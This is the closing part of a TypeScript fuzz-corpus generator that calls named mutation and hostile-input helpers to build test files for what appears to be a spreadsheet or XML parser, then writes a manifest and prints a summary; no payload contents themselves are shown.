    const add: Add = (kind, variant, p) => addBytes(kind, variant, pack(p));
    addBytes("sample", "as-written", sample);
    byteFlips(sample, rnd, addBytes, 40);
    truncations(sample, rnd, addBytes, 20);
    badNumbers(parts, rnd, add);
    badDates(parts, rnd, add);
    attributeMutations(parts, rnd, add, 30);
    elementMutations(parts, rnd, add, 20);
    entityTricks(parts, rnd, add, 12);
    deletedParts(parts, add);
    hostileXml(parts, add);
    farCells(parts, add);
    names(parts, add);
    columns(parts, add);
    validations(parts, add);
    payloads(parts, rnd, add);
    // Bombs from two samples only: they are the slowest to read and the largest on disk.
    if (n < 2) bombs(parts, addBytes);
  }
  fs.writeFileSync(
    path.join(dir, "manifest.json"),
    JSON.stringify({ seed, files: manifest }, null, 1)
  );
  return manifest;
}

if (require.main === module) {
  const [dir = "test-results/fuzz-corpus", seed] = process.argv.slice(2);
  void makeFuzzCorpus(dir, seed ? Number(seed) : DEFAULT_SEED).then((m) => {
    const kinds: Record<string, number> = {};
    for (const f of m) kinds[f.kind] = (kinds[f.kind] ?? 0) + 1;
    const mb = m.reduce((s, f) => s + f.bytes, 0) / 1024 / 1024;
    process.stdout.write(
      `${m.length} files, ${mb.toFixed(1)} MB in ${dir}\n${JSON.stringify(kinds, null, 1)}\n`
    );
  });
}
